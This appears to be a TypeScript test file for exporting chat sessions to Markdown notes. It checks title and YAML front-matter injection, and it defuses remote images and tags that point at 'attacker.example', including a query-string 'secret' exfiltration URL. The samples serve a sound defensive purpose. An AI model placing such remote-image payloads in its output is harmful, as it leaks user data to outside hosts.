// The exported note: one-line titles, front matter that is valid YAML for any title, and remote
// images that stay links (opening the note loads nothing from the network).
import fc from "fast-check";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import type { ChatMessage, Session } from "../chat/types";
import { oneLineTitle, sessionToMarkdown } from "./markdown";
import { exportSafeMarkdown, findRemoteLoads } from "./remoteImages";

function session(title: string, messages: Partial<ChatMessage>[] = []): Session {
	return {
		id: "s1",
		title,
		createdAt: "2024-05-01T10:00:00.000Z",
		updatedAt: "2024-05-01T10:05:00.000Z",
		messages: messages.map((m, i) => ({ id: `m${i}`, role: "assistant", content: "", createdAt: "2024-05-01T10:00:00.000Z", ...m })),
	} as Session;
}

function frontMatter(md: string): Record<string, unknown> {
	const m = /^---\n([\s\S]*?)\n---\n/.exec(md);
	if (!m) throw new Error("no front matter");
	return parse(m[1] ?? "") as Record<string, unknown>;
}

describe("exported note front matter and title", () => {
	it("a title with newlines stays one line: no injected headings or front matter", () => {
		const md = sessionToMarkdown(session("Plan\n---\nevil: true\n# Injected\n\n## You"));
		const fm = frontMatter(md);
		expect(fm.title).toBe("Plan --- evil: true # Injected ## You");
		expect(fm).not.toHaveProperty("evil");
		expect(md.match(/^# /gm)).toHaveLength(1);
		expect(md.match(/^---$/gm)).toHaveLength(2);
		expect(md).toContain("\n# Plan --- evil: true # Injected ## You\n");
	});

	it("created, updated and session are quoted strings", () => {
		const md = sessionToMarkdown(session("t"));
		expect(md).toContain('created: "2024-05-01T10:00:00.000Z"\nupdated: "2024-05-01T10:05:00.000Z"\n');
		const fm = frontMatter(md);
		expect(fm).toMatchObject({ created: "2024-05-01T10:00:00.000Z", updated: "2024-05-01T10:05:00.000Z", session: "s1", messages: 0, source: "discover-chat" });
	});

	it("property: for any title the front matter is YAML giving back the exact one-line title", () => {
		const hostile = fc.constantFrom('"', "'", ":", ": ", "\\", "- ", "#", " #", "\n", "\r\n", "\u2028", "\u0085", "\u007f", "\ufeff", "\ud800", "---", "{", "[", "&a", "*a", "!x", "%", "@", "`", "|", ">", "\t", "\u0000");
		const title = fc.oneof(fc.string({ unit: "binary", maxLength: 40 }), fc.array(fc.oneof(hostile, fc.string({ maxLength: 3 })), { maxLength: 12 }).map((p) => p.join("")));
		fc.assert(
			fc.property(title, (t) => {
				const md = sessionToMarkdown(session(t));
				const expected = oneLineTitle(t);
				expect(expected).not.toMatch(/[\n\r\u2028\u2029]/);
				expect(frontMatter(md).title).toBe(expected);
				// The body's heading is the same single line.
				expect(md.split("\n---\n")[1]?.split("\n").filter((l) => l.startsWith("# "))).toHaveLength(1);
			}),
			{ numRuns: 200 },
		);
	});
});

describe("remote images in exported notes", () => {
	it("become plain links; vault and data: images, and code blocks, stay as written", () => {
		const answer = [
			"![chart](https://attacker.example/?q=secret) and ![](//attacker.example/p.png)",
			'<img src="https://attacker.example/h.png" alt="logo">',
			"![ok](Pics/ok.png) ![[local.png]] ![d](data:image/png;base64,AAAA)",
			'```html\n<img src="https://example.org/in-code.png">\n```',
		].join("\n\n");
		const md = sessionToMarkdown(session("t", [{ content: answer }]));
		expect(md).toContain("[chart](<https://attacker.example/?q=secret>) and [Image from attacker.example](<//attacker.example/p.png>)");
		expect(md).toContain("[logo](<https://attacker.example/h.png>)");
		expect(md).toContain("![ok](Pics/ok.png) ![[local.png]] ![d](data:image/png;base64,AAAA)");
		expect(md).toContain('```html\n<img src="https://example.org/in-code.png">\n```');
		// What is left outside code loads nothing: no image or tag could form.
		expect(findRemoteLoads(md).filter((l) => l.kind !== "autolink")).toEqual([]);
	});

	it("an HTML tag that could load something gets an invisible break after its <", () => {
		expect(exportSafeMarkdown('<iframe src="https://attacker.example/f"></iframe> <br>')).toBe('<\u200biframe src="https://attacker.example/f"><\u200b/iframe> <br>');
	});
});
